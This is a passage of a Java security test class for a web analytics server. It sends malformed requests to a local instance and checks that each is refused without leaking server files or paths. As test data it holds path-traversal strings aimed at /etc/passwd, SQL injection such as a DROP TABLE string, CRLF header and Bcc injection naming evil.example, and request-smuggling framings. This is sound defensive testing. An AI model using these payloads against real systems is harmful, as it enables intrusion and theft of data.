    on(etl, Who.ADMIN).json("{\"inbox\":[\"billing_2025-06.csv\"],\"feed\":[\"billing\"]}")
        .expect(400, "malformed_body");

    for (String name : List.of("../../../../etc/passwd", "/etc/shadow", "C:\\\\feeds\\\\x.txt", "x".repeat(300) + ".csv",
        "' OR 1=1 --.csv", "广东😀.csv", "billing.csv.exe", "a b.csv")) {
      on(UPLOADS, Who.LOADER).body(MULTIPART, upload(name, "subscriber_id\n1")).expect(400, "bad_file_name");
    }
    on(UPLOADS, Who.LOADER).body(MULTIPART, "--fuzz\r\nContent-Disposition: form-data; name=\"files\"; "
        + "filename=\"a.csv\"\r\n\r\nx\r\n--fuzz\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.csv\""
        + "\r\n\r\ny\r\n--fuzz--\r\n").expect(400, "duplicate_file_name");
    on(UPLOADS, Who.ADMIN).body(MULTIPART, "--fuzz\r\nContent-Disposition: form-data; name=\"feed\"\r\n\r\n"
        + "'; DROP TABLE fact_billing; --\r\n" + upload("billing_2025-06.csv", "x").substring(0)).expect(400,
        "unknown_feed");
    on(UPLOADS, Who.LOADER).body(MULTIPART, "--fuzz--\r\n").expect(400, "missing_files");
    // a name the server takes but no feed starts with: the batch is refused, nothing loaded
    on(UPLOADS, Who.LOADER).body(MULTIPART, upload(".csv", "x")).expect(400, "batch_refused");
    on(UPLOADS, Who.LOADER).body(MULTIPART, "' OR 1=1 --").expect(400, "bad_multipart|missing_files");
    on(UPLOADS, Who.LOADER).body("multipart/form-data", upload("a.csv", "x")).expect(400,
        "bad_multipart|missing_files");
    on(UPLOADS, Who.LOADER).json("{\"files\":[\"/etc/passwd\"]}").expect(415, "not_multipart|unsupported_media_type");
    on(UPLOADS, Who.ADMIN).body("text/plain", "/etc/passwd").expect(415, "not_multipart|unsupported_media_type");
  }

  /** What only a raw socket sends: control characters in the request line and headers, broken framing. */
  private void rawProtocol() {
    String me = "GET /api/me";
    // CR, LF or NUL inside a header value never reach the application
    for (String value : List.of("en\rBcc: x@evil.example", "en\u0000", "en\u0001x", "en\u007f")) {
      on(me, Who.ANALYST).raw().header("Accept-Language", value).expect(400, "bad_request");
    }
    on(me, Who.ANONYMOUS).raw().header("Authorization", "Bearer " + TestUsers.ADMIN_TOKEN + "\u0000")
        .expect(400, "bad_request|bad_token");
    on(me, Who.ANONYMOUS).raw().header("Authorization", "Bearer " + TestUsers.ADMIN_TOKEN + "\rX: y")
        .expect(400, "bad_request");
    on(me, Who.ANALYST).raw().header("X Bad Name", "1").expect(400, "bad_request");
    on(me, Who.ANALYST).raw().header("X-Long", "y".repeat(20_000)).expect(400, "bad_request");
    // non-Latin-1 in a header: bytes Tomcat reads as Latin-1, never a 500
    on(me, Who.ANONYMOUS).raw().header("Accept-Language", "广东😀").expect(401, "unauthenticated");
    on(me, Who.ANONYMOUS).raw().header("Cookie", "JSESSIONID=../../etc/passwd; XSRF-TOKEN=' OR 1=1 --")
        .expect(401, "unauthenticated");
    on(me, Who.ANONYMOUS).raw().at("/api/me\u0000").expect(400, "bad_request");
    on(me, Who.ANONYMOUS).raw().at("/api/me?locale=en\u0000").expect(400, "bad_request");
    on(me, Who.ANONYMOUS).raw().at("/api/../../../etc/passwd").expect(400, "bad_request");
    on(me, Who.ANONYMOUS).raw().at("/api/me/../../../../etc/passwd").expect(400, "bad_request");
    on(me, Who.ANONYMOUS).raw().at("/api/%ED%A0%80").expect(400, "bad_request|unauthenticated");
    on(me, Who.ANONYMOUS).verbatim("GET /api/me HTTP/1.1 extra\r\nHost: {host}\r\nConnection: close\r\n\r\n")
        .expect(400, "bad_request");
    on(me, Who.ANONYMOUS).verbatim("GET /api/me HTTP/1.1\r\nConnection: close\r\n\r\n").expect(400, "bad_request");
    on(me, Who.ANONYMOUS).verbatim("G\u0000ET /api/me HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")
        .expect(400, "bad_request");

    String query = "POST /api/cubes/{cube}/query";
    on(query, Who.ANALYST).raw().header("X-Query-Id", "q1\u0000").json(QUERY).expect(400, "bad_request");
    on(query, Who.ANALYST).raw().header("X-Query-Id", "q1\r\nX-Injected: 1").json("{\"measures\":[\"nope\"]}")
        .expect(400, "unknown_measure");
    on(query, Who.ANALYST).raw().header("X-Query-Id", "广东😀").json("{\"measures\":[\"nope\"]}")
        .expect(400, "bad_request");
    // request smuggling framing
    on(query, Who.ANONYMOUS).verbatim("POST /api/cubes/revenue/query HTTP/1.1\r\nHost: {host}\r\n"
        + "Content-Length: 5\r\nContent-Length: 7\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n{}{}{}{")
        .expect(400, "bad_request");
    on(query, Who.ANONYMOUS).verbatim("POST /api/cubes/revenue/query HTTP/1.1\r\nHost: {host}\r\n"
        + "Transfer-Encoding: chunked\r\nContent-Type: application/json\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n")
        .expect(0, null);

    String schedules = "POST /api/schedules";
    on(schedules, Who.MANAGER).raw().header("X-XSRF-TOKEN", managerCsrf + "\u0000").json(scheduleBody("440000", ""))
        .expect(400, "bad_request");
    on(schedules, Who.ANALYST).raw().json(scheduleBody("", "\"subject\":\"x\\r\\nBcc: x@evil.example\""))
        .expect(400, "control_character");
  }

  private void pages() {
    List<String> pages = new ArrayList<>(List.of("/"));
    try {
      for (Resource page : new PathMatchingResourcePatternResolver().getResources("classpath:/static/*.html")) {
        pages.add("/" + page.getFilename());
      }
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
    for (String page : pages) {
      String key = "PAGE " + page;
      boolean login = page.equals("/login.html");
      on(key, Who.ADMIN).at(page).method("POST").json("{}").expect(405, "method_not_allowed");
      on(key, Who.ADMIN).at(page).method("DELETE").expect(405, "method_not_allowed");
      on(key, login ? Who.ANONYMOUS : Who.ADMIN).at(page).method("PUT").json("{\"a\":1}")
          .expect(405, "method_not_allowed");
      on(key, Who.NO_CSRF).at(page).method("POST").json("{}").expect(403, "csrf");
      garbage(on(key, Who.GARBAGE).at(page), false);
      on(key, Who.REVOKED).at(page).expect(401, "bad_token");
      on(key, Who.ANONYMOUS).raw().at(page + "\u0000").expect(400, "bad_request");
      on(key, Who.ANONYMOUS).at(page + (page.endsWith("/") ? "" : "/") + "..%2f..%2fapplication.properties")
          .expect(400, "bad_request");
      on(key, Who.ANONYMOUS).at(page + ";jsessionid=x").expect(400, "bad_request");
      on(key, Who.ANONYMOUS).raw().method("TRACE").at(page).expect(400, "bad_request");
    }
    String login = "PAGE /login.html";
    on(login, Who.ANONYMOUS).at("/login.html/..;/index.html").expect(400, "bad_request");
    on(login, Who.ANONYMOUS).at("/js/%2e%2e/%2e%2e/application.properties").expect(400, "bad_request");
    on(login, Who.ANONYMOUS).at("/css/..%5c..%5capplication.properties").expect(400, "bad_request");
    on(login, Who.ANONYMOUS).at("//etc/passwd").expect(400, "bad_request");
    on(login, Who.ANONYMOUS).raw().at("/js/../../../../etc/passwd").expect(400, "bad_request");
    on(login, Who.ANONYMOUS).at("/js/nope.js").expect(404, "not_found");
    on(login, Who.ANONYMOUS).at("/css/" + enc("' OR 1=1 --") + ".css").expect(404, "not_found");
    on(login, Who.ANONYMOUS).at("/js/login.js").method("POST").json("{}").expect(405, "method_not_allowed");
    on(login, Who.ANONYMOUS).at("/css/telecube.css").method("DELETE").expect(405, "method_not_allowed");
    // nothing of the server's own files is served, whoever asks
    for (String file : List.of("/application.properties", "/META-INF/MANIFEST.MF", "/logback.xml",
        "/org/telecube/server/metadata/migration/V5__Users_tokens_audit.sql", "/WEB-INF/web.xml", "/nope.html",
        "/static/index.html")) {
      on("PAGE /", Who.ADMIN).at(file).expect(404, "not_found");
    }
    on("PAGE /", Who.ADMIN).raw().at("/webjars/../application.properties").expect(400, "bad_request");

    on("OTHER /error", Who.ADMIN).at("/error").expect(404, "not_found");
    on("OTHER /error", Who.ADMIN).at("/error").method("POST").json("{}").expect(404, "not_found");
    on("OTHER /error", Who.ANONYMOUS).raw().method("PROPFIND").at("/api/me").expect(400, "bad_request");
    on("OTHER /v3/api-docs", Who.ANONYMOUS).at("/v3/api-docs").expect(401, "unauthenticated");
    on("OTHER /v3/api-docs", Who.EXPIRED).at("/v3/api-docs").expect(401, "bad_token");
    on("OTHER /api/nowhere", Who.ANONYMOUS).at("/api/nowhere").expect(401, "unauthenticated");
    on("OTHER /api/nowhere", Who.ADMIN).at("/api/nowhere").expect(404, "not_found");
    on("OTHER /api/nowhere", Who.ADMIN).at("/api/cubes/revenue/query").expect(405, "method_not_allowed");
    on("OTHER /api/nowhere", Who.ADMIN).at("/api/me").header("Accept", "image/png").expect(406, "not_acceptable");
  }

  /**
   * A path variable {@code value} under {@code prefix}: what the servlet container or the firewall
   * refuses (an encoded slash, backslash, percent, semicolon or period, a NUL, CR or LF, bytes that are
   * not UTF-8) is their
   * 400; anything else reaches the route and gets {@code status}/{@code code}.
   */
  private void pathCase(String endpoint, Who who, String prefix, String value, String suffix, int status, String code) {
    pathCase(endpoint, who, prefix, value, suffix, status, code, null);
  }

  private void pathCase(String endpoint, Who who, String prefix, String value, String suffix, int status, String code,
                        String json) {
    String segment = enc(value);
    boolean refused = Pattern.compile("%2F|%5C|%25|%3B|%00|%0A|%0D|%2E|%ED", Pattern.CASE_INSENSITIVE)
        .matcher(segment).find() || value.contains("..");
    on(endpoint, who).at(prefix + segment + suffix).json(json)
        .expect(refused ? 400 : status, refused ? "bad_request" + "|" + code : code);
  }

  // ------------------------------------------------------------------ building cases

  private Draft on(String endpoint, Who who) {
    return new Draft(endpoint, who);
  }

  private Case plain(Who who, String method, String target) {
    return new Case("-", who, method, target, Map.of(), null, null, false, false, null, 0, null);
  }

  /** A case being written: the route's method and harmless path unless changed. */
  private final class Draft {
    private final String endpoint;
    private final Who who;
    private String method;
    private String target;
    private final Map<String, String> headers = new LinkedHashMap<>();
    private String type;
    private byte[] body;
    private boolean raw;
    private boolean chunked;
    private String verbatim;

    Draft(String endpoint, Who who) {
      this.endpoint = endpoint;
      this.who = who;
      int space = endpoint.indexOf(' ');
      this.method = endpoint.startsWith("PAGE ") || endpoint.startsWith("OTHER ") ? "GET"
          : endpoint.substring(0, space);
      this.target = routes().stream().filter(r -> r.key().equals(endpoint)).findFirst().map(Route::path)
          .orElse(endpoint.substring(space + 1));
    }

    Draft at(String newTarget) {
      target = newTarget;
      return this;
    }

    Draft method(String newMethod) {
      method = newMethod;
      return this;
    }

    Draft json(String json) {
      if (json != null) {
        type = "application/json";
        body = json.getBytes(StandardCharsets.UTF_8);
      }
      return this;
    }

    Draft body(String contentType, String text) {
      return bytes(contentType, text.getBytes(StandardCharsets.UTF_8));
    }

    Draft bytes(String contentType, byte[] bytes) {
      type = contentType;
      body = bytes;
      return this;
    }

    Draft header(String name, String value) {
      headers.put(name, value);
      return this;
    }

    Draft raw() {
      raw = true;
      return this;
    }

    Draft chunked() {
      chunked = true;
      return this;
    }

    Draft verbatim(String request) {
      raw = true;
      verbatim = request;
      return this;
    }

    /** @param status the status it must get, 0 for any 4xx; @param code its code (alternatives with |), null for any */
    void expect(int status, String code) {
      cases.add(new Case(endpoint, who, method, target, Map.copyOf(headers), type, body, raw, chunked, verbatim,
          status, code));
    }
  }

  // ------------------------------------------------------------------ sending and checking

  private String base() {
    return "http://127.0.0.1:" + port;
  }

  /** The headers that make a request {@code who}'s, before the case's own. */
  private Map<String, String> identity(Who who, String method) {
    Map<String, String> h = new LinkedHashMap<>();
    switch (who) {
      case ANONYMOUS, GARBAGE -> {
      }
      case BROWSER -> {
        h.put("Cookie", browserCookies);
        h.put("X-XSRF-TOKEN", browserCsrf);
      }
      case MANAGER -> {
        h.put("Cookie", managerCookies);
        if (!method.equals("GET")) {
          h.put("X-XSRF-TOKEN", managerCsrf);
        }
      }
      case NO_CSRF -> h.put("Cookie", managerCookies);
      default -> h.put("Authorization", "Bearer " + bearer.get(who));
    }
    return h;
  }

  private Answer send(Case c) {
    Map<String, String> headers = identity(c.who(), c.method());
    headers.putAll(c.headers());
    try {
      if (c.raw()) {
        return sendRaw(c, headers);
      }
      try {
        return sendHttp(c, headers);
      } catch (IllegalArgumentException refused) {
        // a header value java.net.http will not send (beyond Latin-1): the same request, raw
        return sendRaw(c, headers);
      }
    } catch (IOException | RuntimeException e) {
      return new Answer(-1, "", "no answer: " + e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  private Answer sendHttp(Case c, Map<String, String> headers) throws IOException, InterruptedException {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base() + c.target())).timeout(Duration.ofSeconds(60));
    if (c.type() != null) {
      b.setHeader("Content-Type", c.type());
    }
    headers.forEach(b::setHeader);
    HttpRequest.BodyPublisher body = c.body() == null ? HttpRequest.BodyPublishers.noBody()
        : c.chunked() ? HttpRequest.BodyPublishers.fromPublisher(HttpRequest.BodyPublishers.ofByteArray(c.body()))
        : HttpRequest.BodyPublishers.ofByteArray(c.body());
    HttpResponse<byte[]> r = http.send(b.method(c.method(), body).build(), HttpResponse.BodyHandlers.ofByteArray());
    return new Answer(r.statusCode(), r.headers().firstValue("Content-Type").orElse(""),
        new String(r.body(), StandardCharsets.UTF_8));
  }

  /** Sends bytes as written: characters up to U+00FF as one byte each, others as UTF-8. */
  private Answer sendRaw(Case c, Map<String, String> headers) throws IOException {
    ByteArrayOutputStream request = new ByteArrayOutputStream();
    if (c.verbatim() != null) {
      request.writeBytes(wire(c.verbatim().replace("{host}", "127.0.0.1:" + port)));
    } else {
      StringBuilder head = new StringBuilder(c.method()).append(' ').append(c.target()).append(" HTTP/1.1\r\n")
          .append("Host: 127.0.0.1:").append(port).append("\r\n");
      if (c.type() != null) {
        head.append("Content-Type: ").append(c.type()).append("\r\n");
      }
      headers.forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
      if (c.body() != null) {
        head.append("Content-Length: ").append(c.body().length).append("\r\n");
      }
      head.append("Connection: close\r\n\r\n");
      request.writeBytes(wire(head.toString()));
      if (c.body() != null) {
        request.writeBytes(c.body());
      }
    }
    try (Socket socket = new Socket("127.0.0.1", port)) {
      socket.setSoTimeout(30_000);
      OutputStream out = socket.getOutputStream();
      out.write(request.toByteArray());
      out.flush();
      InputStream in = socket.getInputStream();
      byte[] answer = in.readAllBytes();
      return parse(answer);
    }
  }

  private static byte[] wire(String s) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    s.codePoints().forEach(cp -> {
      if (cp <= 0xFF) {
        out.write(cp);
      } else {
        out.writeBytes(new String(Character.toChars(cp)).getBytes(StandardCharsets.UTF_8));
      }
    });
    return out.toByteArray();
  }

  private static Answer parse(byte[] answer) {
    String text = new String(answer, StandardCharsets.ISO_8859_1);
    int end = text.indexOf("\r\n\r\n");
    if (!text.startsWith("HTTP/1.1 ") || end < 0) {
      return new Answer(-1, "", "no HTTP answer: " + abbreviate(text));
    }
    String head = text.substring(0, end);
    int status = Integer.parseInt(head.substring(9, 12));
    String type = "";
    boolean chunked = false;
    for (String line : head.split("\r\n")) {
      String lower = line.toLowerCase(Locale.ROOT);
      if (lower.startsWith("content-type:")) {
        type = line.substring("content-type:".length()).strip();
      }
      if (lower.startsWith("transfer-encoding:") && lower.contains("chunked")) {
        chunked = true;
      }
    }
    byte[] body = Arrays.copyOfRange(answer, end + 4, answer.length);
    if (chunked) {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      int i = 0;
      while (i < body.length) {
        int lineEnd = indexOf(body, i);
        if (lineEnd < 0) {
          break;
        }
        int size = Integer.parseInt(new String(body, i, lineEnd - i, StandardCharsets.ISO_8859_1).split(";")[0].strip(),
            16);
        if (size == 0) {
          break;
        }
        out.write(body, lineEnd + 2, size);
        i = lineEnd + 2 + size + 2;
      }
      body = out.toByteArray();
    }
    return new Answer(status, type, new String(body, StandardCharsets.UTF_8));
  }

  private static int indexOf(byte[] bytes, int from) {
    for (int i = from; i + 1 < bytes.length; i++) {
      if (bytes[i] == '\r' && bytes[i + 1] == '\n') {
        return i;
      }
    }
    return -1;
  }

  private void check(Case c, Answer a, List<String> failures) {
    String what = c.describe() + " → " + a.status() + " " + abbreviate(a.body());
    // what no answer may hold, whatever its status
    if (a.body().contains("root:x:0:0")) {
      failures.add("holds /etc/passwd: " + what);
    }
    if (JAVA.matcher(a.body()).find()) {
      failures.add("names Java: " + what);
    }
    String sent = c.target() + c.headers() + (c.body() == null ? "" : new String(c.body(), StandardCharsets.UTF_8))
        + (c.verbatim() == null ? "" : c.verbatim());
    for (String path : serverPaths()) {
      if (a.body().contains(path) && !sent.contains(path)) {
        failures.add("names the server path " + path + ": " + what);
      }
    }
    if (SERVER_FILES.matcher(a.body()).find() && !SERVER_FILES.matcher(sent).find()) {
      failures.add("names a server file: " + what);
    }
    if (a.status() < 400 || a.status() > 499) {
      failures.add("not a 4xx: " + what);
      return;
    }
    if (c.status() > 0 && a.status() != c.status()) {
      failures.add("expected " + c.status() + " " + c.code() + ": " + what);
    }
    if (!a.contentType().contains("json")) {
      failures.add("not problem JSON (" + a.contentType() + "): " + what);
      return;
    }
    JsonNode problem;
    try {
      problem = JSON.readTree(a.body());
    } catch (IOException e) {
      failures.add("not JSON: " + what);
      return;
    }
    String code = problem.path("code").asText();
    if (code.isBlank() || problem.path("detail").asText().isBlank()) {
      failures.add("no code or no detail: " + what);
    } else if (c.code() != null && !Set.of(c.code().split("\\|")).contains(code)) {
      failures.add("expected code " + c.code() + ": " + what);
    }
  }

  /** Where the server keeps things: none of it may show in an answer. */
  private Set<String> serverPaths() {
    Set<String> paths = new LinkedHashSet<>();
    Path data = Path.of(dataDir).toAbsolutePath().normalize();
    paths.add(data.toString());
    paths.add(data.getParent().toString());
    for (String property : List.of("java.io.tmpdir", "user.home", "user.dir")) {
      String p = System.getProperty(property);
      if (p != null) {
        paths.add(Path.of(p).toAbsolutePath().normalize().toString());
      }
    }
    paths.removeIf(p -> p.length() < 4);
    return paths;
  }

  // ------------------------------------------------------------------ fingerprints

  /**
   * The data version, every table's row count and the sum of every summed measure's column per
   * fact table, through the server's own warehouse.
   */
  private Map<String, String> warehouseFingerprint() throws SQLException {
    Map<String, String> fp = new TreeMap<>();
    Backend backend = warehouse.backend();
    fp.put("dataVersion", String.valueOf(backend.dataVersion()));
    try (Connection c = backend.dataSource().getConnection(); Statement st = c.createStatement()) {
      List<String> tables = new ArrayList<>();
      try (PreparedStatement ps = c.prepareStatement("select table_name from information_schema.tables "
          + "where table_schema = ? and table_type = 'BASE TABLE'")) {
        ps.setString(1, backend.schema());
        try (ResultSet rs = ps.executeQuery()) {
          while (rs.next()) {
            tables.add(rs.getString(1));
          }
        }
      }
      assertThat(tables).as("warehouse tables").isNotEmpty();
      for (String table : tables) {
        try (ResultSet rs = st.executeQuery("select count(*) from " + backend.schema() + ".\"" + table + "\"")) {
          rs.next();
          fp.put(table + ".rows", rs.getString(1));
        }
      }
      for (Cube cube : warehouse.model().cubes()) {
        for (Measure m : cube.measures()) {
          if (m instanceof Measure.Stored s && s.aggregate() == Aggregate.SUM
              && !fp.containsKey(cube.factTable() + ".sum(" + s.column() + ")")) {
            try (ResultSet rs = st.executeQuery("select sum(" + s.column() + ") from " + backend.schema() + "."
                + cube.factTable())) {
              rs.next();
              fp.put(cube.factTable() + ".sum(" + s.column() + ")", rs.getString(1));
            }
          }
        }
      }
    }
    assertThat(fp).containsKey("fact_billing.sum(amount)");
    return fp;
  }

  /**
   * Every metadata table as rows of text, but for what moves by itself: the audit log, Flyway's
   * history, Quartz's running state (fired triggers, check-ins; only the keys of the triggers and
   * jobs), a user's failed-login count, lock and update time, and a token's last use.
   */
  private Map<String, String> metadataFingerprint() throws SQLException {
    Map<String, String> fp = new TreeMap<>();
    Set<String> skipTables = Set.of("AUDIT_EVENT", "FLYWAY_SCHEMA_HISTORY", "QRTZ_FIRED_TRIGGERS",
        "QRTZ_SCHEDULER_STATE", "QRTZ_LOCKS");
    Set<String> skipColumns = Set.of("APP_USER.FAILED_LOGINS", "APP_USER.LOCKED_UNTIL", "APP_USER.UPDATED_AT",
        "API_TOKEN.LAST_USED_AT");
    try (Connection c = metadata.getConnection(); Statement st = c.createStatement()) {
      List<String> tables = new ArrayList<>();
      try (ResultSet rs = st.executeQuery("select table_name from information_schema.tables "
          + "where table_schema = 'PUBLIC' and table_type = 'BASE TABLE'")) {
        while (rs.next()) {
          tables.add(rs.getString(1));
        }
      }
      assertThat(tables).as("metadata tables").contains("REPORT_SCHEDULE", "REPORT_DELIVERY", "APP_USER",
          "API_TOKEN", "QRTZ_TRIGGERS", "QRTZ_JOB_DETAILS");
      for (String table : tables) {
        String t = table.toUpperCase(Locale.ROOT);
        if (skipTables.contains(t)) {
          continue;
        }
        List<String> rows = new ArrayList<>();
        try (ResultSet rs = st.executeQuery("select * from \"" + table + "\"")) {
          ResultSetMetaData md = rs.getMetaData();
          while (rs.next()) {
            StringBuilder row = new StringBuilder();
            for (int i = 1; i <= md.getColumnCount(); i++) {
              String column = md.getColumnName(i).toUpperCase(Locale.ROOT);
              boolean key = column.endsWith("_NAME") || column.endsWith("_GROUP");
              if (skipColumns.contains(t + "." + column) || (t.startsWith("QRTZ_") && !key)) {
                continue;
              }
              Object v = rs.getObject(i);
              row.append(column).append('=').append(v instanceof byte[] b ? Arrays.toString(b) : v).append("; ");
            }
            rows.add(row.toString());
          }
        }
        rows.sort(null);
        fp.put(t, rows.size() + " rows: " + String.join("\n", rows));
      }
    }
    assertThat(fp.get("REPORT_SCHEDULE")).startsWith("3 rows");
    assertThat(fp.get("QRTZ_TRIGGERS")).doesNotStartWith("0 rows");
    return fp;
  }

  // ------------------------------------------------------------------ text

  /** A JSON string literal: control characters and lone surrogates escaped, everything else as it is. */
  static String js(String s) {
    StringBuilder out = new StringBuilder("\"");
    for (int i = 0; i < s.length(); i++) {
      char ch = s.charAt(i);
      boolean lone = Character.isSurrogate(ch) && !(Character.isHighSurrogate(ch) && i + 1 < s.length()
          && Character.isLowSurrogate(s.charAt(i + 1))) && !(Character.isLowSurrogate(ch) && i > 0
          && Character.isHighSurrogate(s.charAt(i - 1)));
      if (ch == '"' || ch == '\\') {
        out.append('\\').append(ch);
      } else if (ch < 0x20 || ch == 0x7f || lone) {
        out.append(String.format("\\u%04x", (int) ch));
      } else {
        out.append(ch);
      }
    }
    return out.append('"').toString();
  }

  /**
   * Percent-encodes a query value or path segment: unreserved characters as they are, others as
   * their UTF-8 bytes — and a lone surrogate as the three bytes CESU-8 would give it, which are
   * not UTF-8 at all.
   */
  static String enc(String s) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < s.length(); i++) {
      char ch = s.charAt(i);
      byte[] bytes;
      if (Character.isHighSurrogate(ch) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
        bytes = s.substring(i, i + 2).getBytes(StandardCharsets.UTF_8);
        i++;
      } else if (Character.isSurrogate(ch)) {
        bytes = new byte[] {(byte) (0xE0 | (ch >> 12)), (byte) (0x80 | ((ch >> 6) & 0x3F)), (byte) (0x80 | (ch & 0x3F))};
      } else if ((ch >= 'A' && ch <= 'Z') || (ch >= 'a' && ch <= 'z') || (ch >= '0' && ch <= '9') || "-_.~".indexOf(ch) >= 0) {
        out.append(ch);
        continue;
      } else {
        bytes = String.valueOf(ch).getBytes(StandardCharsets.UTF_8);
      }
      for (byte b : bytes) {
        out.append('%').append(String.format("%02X", b & 0xFF));
      }
    }
    return out.toString();
  }

  static String abbreviate(String s) {
    if (s == null) {
      return "";
    }
    String flat = s.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
    return flat.length() > 240 ? flat.substring(0, 240) + "…(" + flat.length() + ")" : flat;
  }
}
